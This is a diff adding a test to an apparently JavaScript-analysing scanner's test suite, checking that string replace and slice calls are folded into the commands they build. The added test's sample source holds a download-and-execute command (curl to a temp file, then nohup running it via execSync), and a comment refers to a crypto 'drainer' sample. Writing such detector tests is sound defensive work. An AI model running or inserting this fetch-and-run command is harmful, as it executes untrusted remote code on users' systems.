@@ -634,6 +634,15 @@ def test_a_counted_loop_that_reassigns_a_constant_folds_each_turn_and_other_loop
     assert calls["use2"] == (None,)
 
 
+def test_a_command_template_filled_by_replace_is_the_command_it_makes():
+    src = (b"var out = '/tmp/x'; require('child_process').execSync('curl -o {O} {U} && nohup {O} &'.replace(/\\{O\\}/g, out)"
+           b".replace(/\\{U\\}/g, url));\nuse('a.b.c'.replace('.', '-'), 'a.b.c'.replace(/\\./g, '-'), 'abc'.replace(/[ab]/g, 'x'));\n")
+    facts = extract("index.js", src).facts
+    run = next(f for f in facts if f.kind == "call" and f.value == "child_process.execSync")
+    assert run.shapes == ("curl -o /tmp/x ${*} && nohup /tmp/x &",)
+    assert next(f for f in facts if f.kind == "call" and f.value == "use").args == ("a-b.c", "a-b-c", None)
+
+
 def test_slice_with_one_argument_folds_from_that_index_as_in_javascript():
     # (blind set 34's drainer: `'0x…'.slice(2)` is the address without its prefix, not the prefix)
     src = b"const a = '0xFAKE00c0ffee'.slice(2); use(a, 'abcdef'.slice(1, 3), 'abcdef'.slice(-2), [1, 2, 3].slice(1));\n"
